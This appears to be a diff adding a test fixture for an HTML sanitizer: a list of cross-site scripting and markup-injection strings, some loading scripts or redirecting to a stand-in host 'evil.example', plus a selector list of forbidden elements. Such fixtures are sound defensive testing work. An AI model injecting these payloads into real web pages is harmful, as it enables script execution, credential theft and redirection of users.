@@ -1,0 +1,43 @@
+// Texts that would run as a script, load something or change the page where they were read as markup.
+
+export const CORPUS = [
+  '<b>bold</b>',
+  '<script>window.pwned=1</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<img src=x onerror=window.pwned=1>',
+  '<img src=x onerror="alert(1)">',
+  '<svg onload=window.pwned=1>',
+  '<svg><script>window.pwned=1</script></svg>',
+  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<iframe src="javascript:parent.pwned=1">',
+  '<a href="javascript:window.pwned=1">click</a>',
+  '<body onload=window.pwned=1>',
+  '<input autofocus onfocus=window.pwned=1>',
+  '<details open ontoggle=window.pwned=1>x</details>',
+  '<video><source onerror=window.pwned=1></video>',
+  '<audio src=x onerror=window.pwned=1>',
+  '<marquee onstart=window.pwned=1>x</marquee>',
+  '<object data="javascript:window.pwned=1">',
+  '<embed src="javascript:window.pwned=1">',
+  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
+  '<style>*{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example>',
+  '<form action=//evil.example><button>go</button></form>',
+  '<template><script>window.pwned=1</script></template>',
+  '"><script>window.pwned=1</script>',
+  "'><img src=x onerror=window.pwned=1>",
+  '</li></ol><script>window.pwned=1</script>',
+  '</script><script>window.pwned=1</script>',
+  '<!--<img src="--><img src=x onerror=window.pwned=1>',
+  'javascript:window.pwned=1',
+  '{{constructor.constructor("window.pwned=1")()}}',
+  '${window.pwned=1}',
+  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
+  '&#60;img src=x onerror=window.pwned=1&#62;',
+];
+
+/** Elements that no text of a user may become. */
+export const STRANGERS = 'script[src*=evil], script:not([src]), iframe, object, embed, base, meta[http-equiv], link[href*=evil], style, video, audio, marquee, math, template, img[src=x], svg[onload], a[href^="javascript:"], form[action*=evil]';
